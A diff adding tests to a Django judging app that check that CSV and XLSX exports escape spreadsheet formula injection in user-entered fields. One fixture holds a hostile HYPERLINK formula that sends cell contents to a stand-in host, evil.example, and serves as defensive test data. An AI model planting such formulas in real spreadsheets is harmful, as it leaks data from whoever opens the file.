@@ -6,7 +6,7 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from judging.export_tasks import run_export_job
-from judging.exports import export_job_run, export_job_start
+from judging.exports import export_job_run, export_job_start, rows_to_csv, rows_to_xlsx
 from judging.models import (
     Assignment,
     Criterion,
@@ -187,3 +187,57 @@ def test_export_page_bad_input_shows_message(client, db, secretariat):
     assert response.status_code == 400
     assert ExportJob.objects.count() == 0
     assert "Select a valid choice." in response.content.decode()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+
+
+def test_export_csv_writes_a_formula_typed_by_a_city_as_text(
+    db, secretariat, django_capture_on_commit_callbacks
+):
+    cycle, sub = _cycle_with_scores()
+    sub.title = FORMULA
+    sub.subtitle = "@SUM(1+1)"
+    sub.save(update_fields=["title", "subtitle"])
+
+    with django_capture_on_commit_callbacks(execute=True):
+        job = export_job_start(kind="entries", fmt="csv", cycle=cycle, by=secretariat)
+
+    job.refresh_from_db()
+    row = _csv_rows(job)[0]
+    assert (row["title"], row["subtitle"]) == ("'" + FORMULA, "'@SUM(1+1)")
+
+
+def test_export_xlsx_writes_a_formula_typed_by_a_city_as_a_string_cell(
+    db, secretariat, django_capture_on_commit_callbacks
+):
+    cycle, sub = _cycle_with_scores()
+    sub.title = FORMULA
+    sub.save(update_fields=["title"])
+
+    with django_capture_on_commit_callbacks(execute=True):
+        job = export_job_start(kind="entries", fmt="xlsx", cycle=cycle, by=secretariat)
+
+    job.refresh_from_db()
+    with job.file.open("rb") as f:
+        sheet = load_workbook(io.BytesIO(f.read())).active
+    header = [c.value for c in sheet[1]]
+    title = sheet.cell(row=2, column=header.index("title") + 1)
+    assert (title.data_type, title.value) == ("s", "'" + FORMULA)
+    numbers = sheet.cell(row=2, column=header.index("cycle") + 1)
+    assert (numbers.data_type, numbers.value) == ("n", 7)
+
+
+def test_rows_to_xlsx_never_writes_a_formula_cell():
+    content = rows_to_xlsx(["a", "b", "c"], [["=1+1", "-5", -5]])
+
+    sheet = load_workbook(io.BytesIO(content)).active
+    cells = [(c.data_type, c.value) for c in sheet[2]]
+    assert cells == [("s", "'=1+1"), ("s", "'-5"), ("n", -5)]
+
+
+def test_rows_to_csv_quotes_every_formula_start():
+    content = rows_to_csv(["v"], [["=1"], ["+1"], ["-1"], ["@1"], ["\t1"], ["\r1"], [-1]])
+
+    values = [r[0] for r in csv.reader(io.StringIO(content.decode("utf-8-sig")))][1:]
+    assert values == ["'=1", "'+1", "'-1", "'@1", "'\t1", "'\r1", "-1"]
